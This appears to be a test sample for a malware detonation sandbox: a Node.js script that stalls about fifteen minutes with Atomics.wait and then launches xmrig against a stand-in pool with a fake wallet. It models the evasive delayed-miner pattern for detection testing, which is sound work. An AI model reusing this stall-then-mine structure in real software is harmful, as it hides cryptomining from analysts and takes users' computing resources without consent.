#!/usr/bin/node
// Hold-out heartbeat countdown (detonate test sample; harmless): a worker_threads Worker runs
// 3,000 rounds of Atomics.wait(300 ms) on a SharedArrayBuffer cell nobody notifies, while the
// main thread's event loop wakes on a 5 s setInterval heartbeat that only counts; when the worker
// exits, main runs the miner stand-in with a fake wallet and exits with its status.
//
// HANDOVER_SCALE=N divides the round count (host checks); HANDOVER_MINER replaces the miner.
'use strict';
const { Worker, isMainThread, workerData, parentPort } = require('worker_threads');

const MINER = '/usr/local/bin/xmrig';
const POOL = 'stratum+tcp://pool.handover.test:3333';
const WALLET = '4HandoverFakeJsWa11etNotARealAddress000000000000000000000000000000000000000000000000000';
const ROUNDS = 3000;
const ROUND_MS = 300;
const BEAT_MS = 5000;

function scaled(rounds) {
  const scale = Math.max(1, parseInt(process.env.HANDOVER_SCALE || '1', 10) || 1);
  return Math.max(1, Math.floor(rounds / scale));
}

if (isMainThread) {
  const rounds = scaled(ROUNDS);
  let beats = 0;
  const heartbeat = setInterval(() => { beats += 1; }, BEAT_MS);
  console.log(`nodebeat: worker runs ${rounds} Atomics.wait of ${ROUND_MS} ms, main beats every ${BEAT_MS} ms`);
  const worker = new Worker(__filename, { workerData: { rounds } });
  let timedOut = 0;
  worker.on('message', (n) => { timedOut = n; });
  worker.on('error', (err) => { console.error('nodebeat: worker failed', err); process.exitCode = 1; });
  worker.on('exit', (code) => {
    clearInterval(heartbeat);
    if (code !== 0 || timedOut !== rounds) {
      console.error(`nodebeat: worker ended ${code} after ${timedOut} rounds`);
      process.exit(1);
    }
    console.log(`nodebeat: ${timedOut} rounds, ${beats} beats, starting the miner`);
    const { spawnSync } = require('child_process');
    const miner = process.env.HANDOVER_MINER || MINER;
    const run = spawnSync(miner, ['-o', POOL, '-u', WALLET, '--shares', '1'], { stdio: 'inherit', argv0: 'xmrig' });
    process.exit(run.status === null ? 1 : run.status);
  });
} else {
  const cell = new Int32Array(new SharedArrayBuffer(4));
  let timedOut = 0;
  for (let i = 0; i < workerData.rounds; i++) {
    if (Atomics.wait(cell, 0, 0, ROUND_MS) === 'timed-out') timedOut += 1;
  }
  parentPort.postMessage(timedOut);
}
